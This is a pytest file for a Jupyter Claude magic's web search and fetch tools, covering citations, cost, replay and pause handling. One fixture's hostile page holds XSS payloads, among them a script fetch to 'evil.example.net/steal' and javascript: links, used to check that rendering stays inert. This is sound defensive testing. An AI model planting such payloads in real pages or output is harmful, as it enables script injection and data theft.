"""Server tools end to end: `--web` / `server_tools`, cards, citations, cost, pause_turn, replay, hostile pages."""

from __future__ import annotations

import dataclasses
from typing import Any

import pytest
from IPython.core.error import UsageError

from claude_magic.commands import run_command
from claude_magic.core.events import Event
from claude_magic.core.pricing import cost_of
from claude_magic.core.settings import Settings, TurnOptions
from claude_magic.core.turn_settings import turn_settings
from claude_magic.engines.claude_code.options import session_options
from claude_magic.session import Session
from claude_magic.testing import Drop, LocalServer, Reply, cite, text, web_fetch, web_search
from claude_magic.views.markdown_export import transcript_markdown
from claude_magic.views.static import static_html
from claude_magic.views.transcript import Transcript

from ..helpers import local_settings
from ..views.helpers import assert_inert

DOCS = "https://pandas.pydata.org/docs/user_guide/merging.html"
BLOG = "https://blog.example.com/merge-tips"
HOSTILE = "https://evil.example.net/page"


@pytest.fixture
def web_server(claude_server: LocalServer) -> LocalServer:
    web = claude_server.web
    web.add(DOCS, "Merge, join, concatenate — pandas", "merge() joins on columns; how='left' keeps every left row.",
            page_age="3 weeks ago")
    web.add(BLOG, "Five merge tips", "Use validate='one_to_one' to catch duplicate keys when you merge.")
    web.add(HOSTILE, '<img src=x onerror=alert(1)>Evil <script>alert(1)</script>',
            '<script>fetch("https://evil.example.net/steal")</script><style>body{background:url(https://evil.'
            'example.net/px)}</style><a href="javascript:alert(1)">click</a> [x](javascript:alert(2)) merge')
    return claude_server


def cited_turn() -> Reply:
    return Reply(
        web_search("pandas merge how left"), web_fetch(DOCS),
        text("Use `how='left'`", citations=[cite(DOCS, "how='left' keeps every left row")]),
        text(" and check keys with `validate`.", citations=[cite(BLOG, "validate='one_to_one'"),
                                                             cite(DOCS, "merge() joins on columns")]),
    )


def ask(session: Session, prompt: str, cell: str | None = None, events: list[Event] | None = None) -> Any:
    options = TurnOptions(cell_id=cell, in_cell=cell is not None)
    result = session.ask(prompt, options=options, emit=(events.append if events is not None else None))
    assert result.ok, result.error
    return result


def web_session(server: LocalServer, **changes: Any) -> Session:
    return Session(local_settings(server, server_tools=("web_search", "web_fetch"), **changes))


def transcript_of(events: list[Event]) -> Transcript:
    transcript = Transcript()
    for event in events:
        transcript.apply(event)
    return transcript


def test_a_web_turn_offers_the_newest_tools_and_shows_cards_citations_and_cost(web_server: LocalServer) -> None:
    session = web_session(web_server)
    web_server.queue(cited_turn())
    events: list[Event] = []
    result = ask(session, f"How do I keep all rows when merging? {DOCS}", events=events)
    tools = web_server.message_requests[0]["tools"]
    assert [(tool["type"], tool["name"]) for tool in tools] == [("web_search_20260318", "web_search"),
                                                                 ("web_fetch_20260318", "web_fetch")]
    assert tools[1]["citations"] == {"enabled": True}
    assert result.usage.web_search_requests == 1 and result.usage.web_fetch_requests == 1
    tokens_only = cost_of(dataclasses.replace(result.usage, web_search_requests=0), result.model)
    assert result.cost == pytest.approx(tokens_only + 0.01)                # $10 per 1,000 searches on top
    html = static_html(transcript_of(events))
    assert "Web search" in html and "pandas merge how left" in html and "3 results" in html
    assert "Fetched" in html and f'href="{DOCS}"' in html
    assert html.count("[1]</a>") == 2 and html.count("[2]</a>") == 1          # numbered by source, reused
    assert "<b>Sources</b>" in html and "blog.example.com" in html and "cited text" in html
    assert "1 search, 1 fetch" in html                                         # the footer
    markdown = transcript_markdown(transcript_of(events))
    assert "[1]" in markdown and f"1. [Merge, join, concatenate — pandas]({DOCS})" in markdown
    assert_inert(html)
    assert "1 search(es)" in run_command(session, ["usage"])
    # the conversation goes back as received: the next turn is accepted (encrypted_content unchanged)
    ask(session, "thanks")
    assert web_server.rejections == []


def test_pause_turn_is_continued_and_the_turn_stays_one_message(web_server: LocalServer) -> None:
    session = web_session(web_server)
    web_server.queue(Reply(web_search("pandas merge"), stop_reason="pause_turn"),
                     Reply(web_fetch(DOCS), text("Done.")))
    result = ask(session, "look it up")
    assert result.stop_reason == "end_turn" and result.steps == 2
    second = web_server.message_requests[1]["messages"]
    assert second[-1]["role"] == "assistant" and second[-1]["content"][0]["type"] == "server_tool_use"
    messages = session.conversation().messages
    assert [m["role"] for m in messages] == ["user", "assistant"]
    assert [b["type"] for b in messages[1]["content"]] == ["server_tool_use", "web_search_tool_result",
                                                           "server_tool_use", "web_fetch_tool_result", "text"]
    assert result.usage.web_search_requests == 1 and result.usage.web_fetch_requests == 1
    assert web_server.rejections == []


def test_an_unchanged_web_cell_replays_with_no_request(web_server: LocalServer) -> None:
    session = web_session(web_server)
    web_server.queue(cited_turn())
    first = ask(session, "merge rows?", cell="A")
    requests = len(web_server.message_requests)
    events: list[Event] = []
    again = ask(session, "merge rows?", cell="A", events=events)
    assert len(web_server.message_requests) == requests and again.replayed
    assert again.recorded is not None and again.recorded.usage.web_search_requests == 1
    assert again.text == first.text
    assert "[2]</a>" in static_html(transcript_of(events))
    off = session.ask("merge rows?", settings=session.settings.with_options(server_tools=()),
                      options=TurnOptions(cell_id="A", in_cell=True))
    assert not off.replayed and len(web_server.message_requests) == requests + 1     # the web switch is part of it


def test_a_hostile_fetched_page_renders_inert(web_server: LocalServer) -> None:
    session = web_session(web_server)
    web_server.queue(Reply(web_search("evil merge"), web_fetch(HOSTILE),
                           text("It says merge.", citations=[cite(HOSTILE, "<script>x</script>"),
                                                             {"type": "web_search_result_location",
                                                              "url": "javascript:alert(3)", "title": "js",
                                                              "cited_text": "x", "encrypted_index": "i"}])))
    events: list[Event] = []
    ask(session, "what does it say?", events=events)
    html = static_html(transcript_of(events))
    assert_inert(html)
    assert '<a href="javascript' not in html and "<style" not in html and "<img" not in html
    assert "<small>javascript:alert(3)</small>" in html                   # a bad source URL is text, not a link
    assert "&lt;script&gt;" in html                                       # shown as text, not run
    markdown = transcript_markdown(transcript_of(events))
    assert "](javascript" not in markdown


def test_web_switch_per_cell_and_setting_validation() -> None:
    base = Settings(server_tools=({"name": "web_search", "max_uses": 3, "allowed_domains": ["pandas.pydata.org"]},))
    on, _ = turn_settings(base, web=True)
    assert on.server_tools == (base.server_tools[0], "web_fetch")
    off, _ = turn_settings(base, web=False)
    assert off.server_tools == ()
    same, _ = turn_settings(base)
    assert same.server_tools == base.server_tools
    options = session_options(on, [], {})
    assert {"WebSearch", "WebFetch"} <= set(options.fields["tools"])
    assert "WebSearch" not in session_options(off, [], {}).fields["tools"]


def test_magic_flags_and_trait(web_server: LocalServer, ipython_shell: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ANTHROPIC_BASE_URL", web_server.base_url)
    shell = ipython_shell
    magic = shell.magics_manager.registry["ClaudeMagic"]
    monkeypatch.setattr(magic, "replay", False)
    monkeypatch.setattr(magic, "server_tools", [{"name": "web_search", "max_uses": 2, "blocked_domains": ["x.com"]}])
    web_server.queue(Reply("ok"), Reply("ok"), Reply("ok"), Reply("ok"))
    shell.run_cell_magic("claude", "--new", "no web here?")
    shell.run_cell_magic("claude", "--new --web", "web please")
    shell.run_cell_magic("claude", "--new --no-web", "no web")
    import claude_magic

    claude_magic.ask("from Python", web=True, new=True, display=False)
    offered = [[t.get("name") for t in body.get("tools") or [] if t.get("type", "").startswith("web_")]
               for body in web_server.message_requests]
    assert offered == [["web_search"], ["web_search", "web_fetch"], [], ["web_search", "web_fetch"]]
    assert web_server.message_requests[0]["tools"][-1]["max_uses"] == 2
    with pytest.raises(Exception, match="allowed_domains and blocked_domains"):
        magic.server_tools = [{"name": "web_search", "allowed_domains": ["a"], "blocked_domains": ["b"]}]
    with pytest.raises(Exception, match="server_tools takes"):
        magic.server_tools = ["code_execution"]
    assert UsageError  # the magic's errors are UsageErrors (one line)


@pytest.mark.parametrize("after", [6, 8])
def test_a_stream_cut_between_a_search_and_its_result_leaves_a_valid_conversation(web_server: LocalServer,
                                                                                  after: int) -> None:
    """6 events: the call is complete, its result not sent (the call is dropped: it never ran); 8: the result
    too (both kept)."""
    session = web_session(web_server)
    web_server.queue(Reply(web_search("rsrp"), text("Partial answer."), fault=Drop(after, reset=False)))
    cut = session.ask("look it up")
    assert cut.status == "cut_off"
    kept = [b["type"] for m in session.conversation().messages if m["role"] == "assistant" for b in m["content"]]
    assert kept == ([] if after == 6 else ["server_tool_use", "web_search_tool_result"])
    web_server.queue(Reply("Fine now."))
    assert ask(session, "try again").text == "Fine now."
    assert web_server.rejections == []


def test_the_terminal_view_prints_calls_markers_and_sources(web_server: LocalServer) -> None:
    import io

    from claude_magic.views.terminal import TerminalView

    stream = io.StringIO()
    session = web_session(web_server)
    web_server.queue(cited_turn())
    session.ask(f"merge? {DOCS}", emit=TerminalView(stream, color=False))
    printed = stream.getvalue()
    assert "🔎 Web search: `pandas merge how left`" in printed and "3 search result(s)" in printed
    assert "Use `how='left'` [1]" in printed and "check keys with `validate`. [2][1]" in printed
    assert f"1. [Merge, join, concatenate — pandas]({DOCS})" in printed
    assert printed.index("Sources") < printed.index("1 search, 1 fetch")


def test_a_turn_paused_before_its_call_ran_gets_the_result_on_continuation(web_server: LocalServer) -> None:
    from claude_magic.testing import block

    session = web_session(web_server)
    call = {"type": "server_tool_use", "id": "srvtoolu_paused", "name": "web_search",
            "input": {"query": "pandas merge"}}
    web_server.queue(Reply(text("Let me search."), block(call), stop_reason="pause_turn"), Reply(text("Found it.")))
    result = ask(session, "search for me")
    assert result.steps == 2 and result.usage.web_search_requests == 1
    kinds = [b["type"] for b in session.conversation().messages[1]["content"]]
    assert kinds == ["text", "server_tool_use", "web_search_tool_result", "text"]
    assert web_server.rejections == []
